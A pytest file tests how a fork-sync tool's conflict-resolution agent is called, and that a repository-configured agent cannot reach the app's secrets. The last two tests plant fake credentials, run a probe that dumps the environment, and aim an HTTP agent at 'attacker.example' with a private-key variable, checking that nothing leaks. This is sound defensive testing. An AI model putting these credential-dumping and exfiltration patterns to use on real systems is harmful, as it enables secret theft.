"""The agent protocol with a scripted agent command: request shape, answers through the rails, failures."""

from __future__ import annotations

import io
import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pygit2
import pytest

from core.config import AgentConfig
from tests.gitrepo import GitRepo
from workers.engine.resolve import resolve_pick
from workers.engine.resolve.agent import CommandAgent, HttpAgent, agent_step, from_config
from workers.engine.resolve.model import AGENT

AGENT_SCRIPT = Path(__file__).parent / "data" / "resolve" / "scripted_agent.py"
BASE = "items = [\n    'a',\n]\n"


def _conflicting_pick(make_repo: Callable[[str], GitRepo]) -> tuple[GitRepo, str, str]:
    """Both sides append a different statement after the same line: no deterministic rule applies."""
    repo = make_repo("r")
    repo.commit("base", {"app.py": "x = 1\n"})
    repo.git("checkout", "-q", "-b", "fork")
    fork = repo.commit("fork", {"app.py": "x = 1\nfork_value = compute()\n"})
    repo.git("checkout", "-q", "main")
    pick = repo.commit("upstream: add y", {"app.py": "x = 1\nupstream_value = other()\n"})
    return repo, pick, fork


def _agent(mode: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, timeout: int = 20) -> CommandAgent:
    monkeypatch.setenv("SCRIPTED_AGENT_MODE", mode)
    monkeypatch.setenv("SCRIPTED_AGENT_LOG", str(tmp_path / "requests.jsonl"))
    # a config's agent command gets the suites' allow-listed environment: the operator passes these
    monkeypatch.setenv("FORKSYNC_SUITE_ENV_PASS", "SCRIPTED_AGENT_MODE,SCRIPTED_AGENT_LOG")
    return CommandAgent((sys.executable, str(AGENT_SCRIPT)), timeout_s=timeout, max_output_bytes=100_000)


def _run(make_repo: Callable[[str], GitRepo], agent: CommandAgent):  # type: ignore[no-untyped-def]
    repo, pick, fork = _conflicting_pick(make_repo)
    r = pygit2.Repository(str(repo.path))
    return resolve_pick(r, pick, fork, agent=agent_step(agent, r, onto=fork))


def test_without_an_agent_the_conflict_waits(make_repo: Callable[[str], GitRepo]) -> None:
    """Control: the deterministic pipeline alone declines this conflict."""
    repo, pick, fork = _conflicting_pick(make_repo)
    assert not resolve_pick(pygit2.Repository(str(repo.path)), pick, fork).resolved


def test_agent_resolution_passes_the_rails_and_is_attributed(
    make_repo: Callable[[str], GitRepo], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The scripted agent keeps both sides; the entry says it came from the agent, with its Action."""
    out = _run(make_repo, _agent("resolve", monkeypatch, tmp_path))
    assert out.resolved, out.waiting
    (entry,) = out.entries
    assert entry.strategy == f"{AGENT}:scripted_agent.py"
    assert entry.action == "Kept both the fork's and upstream's lines"
    assert entry.content == b"x = 1\nfork_value = compute()\nupstream_value = other()\n"


def test_agent_request_carries_the_protocol_fields(
    make_repo: Callable[[str], GitRepo], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """stdin JSON: upstream commit, subject, message, per file base/ours/theirs/diff3 and history."""
    _run(make_repo, _agent("resolve", monkeypatch, tmp_path))
    (request,) = [json.loads(line) for line in (tmp_path / "requests.jsonl").read_text().splitlines()]
    assert request["protocol"] == "forksync-resolve/1" and request["subject"] == "upstream: add y"
    (f,) = request["files"]
    assert set(f) >= {"path", "base", "ours", "theirs", "diff3", "fork_history"}
    assert f["ours"] == "x = 1\nfork_value = compute()\n" and "<<<<<<< ours" in f["diff3"]
    assert [h["subject"] for h in f["fork_history"]] == ["fork", "base"]
    assert [c["subject"] for c in request["related_upstream_commits"]] == ["base"]


@pytest.mark.parametrize(
    ("mode", "expect"),
    [
        ("markers", "markers"),
        ("defer", "deferred to a human: the fork's variant needs its owner"),
        ("garbage", "not JSON"),
        ("fail", "exited 3: model unavailable"),
        ("flood", "more than the 100000 allowed"),
    ],
)
def test_bad_agent_answers_leave_the_file_waiting(
    make_repo: Callable[[str], GitRepo],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    mode: str,
    expect: str,
) -> None:
    """Markers, deferrals, garbage, failures and floods are never proposed; the reason says which."""
    out = _run(make_repo, _agent(mode, monkeypatch, tmp_path))
    assert not out.resolved and out.tree is None
    assert expect in out.waiting[0].reason


def test_agent_timeout_is_bounded(
    make_repo: Callable[[str], GitRepo], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """An agent that hangs is stopped at its timeout and the file waits."""
    out = _run(make_repo, _agent("sleep", monkeypatch, tmp_path, timeout=1))
    assert not out.resolved and "ran past 1s" in out.waiting[0].reason


def test_missing_agent_command_is_a_clear_error(make_repo: Callable[[str], GitRepo]) -> None:
    """A configured command that does not exist is named, with the config key to fix."""
    out = _run(make_repo, CommandAgent(("/nonexistent/agent",)))
    assert "not found" in out.waiting[0].reason and "resolve.agent.command" in out.waiting[0].reason


def test_http_agent_speaks_openai_chat_completions(monkeypatch: pytest.MonkeyPatch) -> None:
    """POST {url}/chat/completions with the key from the named variable; content parsed as the answer."""
    seen: dict[str, Any] = {}

    class Response(io.BytesIO):
        def __enter__(self) -> Response:
            return self

        def __exit__(self, *exc: object) -> None:
            return None

    def opener(req: Any, timeout: int) -> Response:
        seen["url"], seen["auth"], seen["body"] = (
            req.full_url,
            req.get_header("Authorization"),
            json.loads(req.data),
        )
        answer = {"files": [{"path": "a.py", "defer": "unsure"}]}
        return Response(json.dumps({"choices": [{"message": {"content": json.dumps(answer)}}]}).encode())

    monkeypatch.setenv("MY_KEY", "sekret")
    monkeypatch.setenv("FORKSYNC_AGENT_KEY_ENV", "MY_KEY")
    agent = HttpAgent("https://llm.example/v1/", "MY_KEY", "m1", opener=opener)
    assert agent.ask({"files": []}) == {"files": [{"path": "a.py", "defer": "unsure"}]}
    assert seen["url"] == "https://llm.example/v1/chat/completions" and seen["auth"] == "Bearer sekret"
    assert seen["body"]["model"] == "m1" and seen["body"]["messages"][0]["role"] == "system"


def test_http_agent_without_its_key_says_which_variable(monkeypatch: pytest.MonkeyPatch) -> None:
    """The key variable unset is a one-line error naming it."""
    monkeypatch.delenv("ABSENT_KEY", raising=False)
    monkeypatch.setenv("FORKSYNC_AGENT_KEY_ENV", "ABSENT_KEY")
    with pytest.raises(Exception, match="ABSENT_KEY is not set"):
        HttpAgent("https://llm.example/v1", "ABSENT_KEY", None).ask({})


def test_agent_from_config() -> None:
    """The command wins over nothing; --agent overrides the config; no agent configured is None."""
    assert from_config(AgentConfig()) is None
    cmd = from_config(AgentConfig(command=("a", "b"), timeout_s=5))
    assert isinstance(cmd, CommandAgent) and cmd.argv == ("a", "b") and cmd.timeout_s == 5
    override = from_config(AgentConfig(command=("a",)), ["z"])
    assert isinstance(override, CommandAgent) and override.argv == ("z",)
    assert isinstance(from_config(AgentConfig(url="https://x/v1")), HttpAgent)


def test_a_configs_agent_command_never_sees_the_apps_secrets(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Issue 14 finding 1 for ``resolve.agent.command`` (a fork writer's code): it runs with the
    suites' allow-listed environment; the operator's own ``--agent`` command keeps the environment."""
    probe = tmp_path / "probe.py"
    probe.write_text("import json, os, sys\nsys.stdin.read()\nprint(json.dumps({'env': dict(os.environ)}))\n")
    monkeypatch.setenv("GITHUB_PRIVATE_KEY", "-----BEGIN RSA PRIVATE KEY-----planted")
    monkeypatch.setenv("FORKSYNC_WEBHOOK_SECRET", "whsec-planted")
    monkeypatch.setenv("REDIS_URL", "redis://:pw-planted@127.0.0.1:6379/0")
    monkeypatch.setenv(
        "FORKSYNC_SUITE_ENV_PASS", "GITHUB_PRIVATE_KEY,REDIS_URL"
    )  # listed: still never passed
    configured = from_config(AgentConfig(command=(sys.executable, str(probe))))
    assert isinstance(configured, CommandAgent)
    env = configured.ask({})["env"]
    assert not [k for k, v in env.items() if "planted" in v]
    assert env["HOME"] != os.environ.get("HOME") and "PATH" in env
    operators = from_config(AgentConfig(), command=(sys.executable, str(probe)))
    assert (
        isinstance(operators, CommandAgent)
        and operators.ask({})["env"]["FORKSYNC_WEBHOOK_SECRET"] == "whsec-planted"
    )


def test_a_configs_http_agent_cannot_send_a_worker_variable_the_operator_did_not_allow(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``resolve.agent.url`` and ``key_env`` both come from the repository: naming GITHUB_PRIVATE_KEY
    (or any variable the operator did not list in FORKSYNC_AGENT_KEY_ENV) sends nothing."""
    sent: list[Any] = []
    monkeypatch.setenv("GITHUB_PRIVATE_KEY", "planted")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "planted")
    monkeypatch.setenv(
        "FORKSYNC_AGENT_KEY_ENV", "GITHUB_PRIVATE_KEY"
    )  # the App's own key: never, even listed
    for name in ("GITHUB_PRIVATE_KEY", "AWS_SECRET_ACCESS_KEY"):
        agent = HttpAgent(
            "https://attacker.example/v1", name, None, opener=lambda req, timeout: sent.append(req)
        )
        with pytest.raises(Exception, match="has not allowed") as err:
            agent.ask({})
        assert "FORKSYNC_AGENT_KEY_ENV" in str(err.value)
    assert sent == []
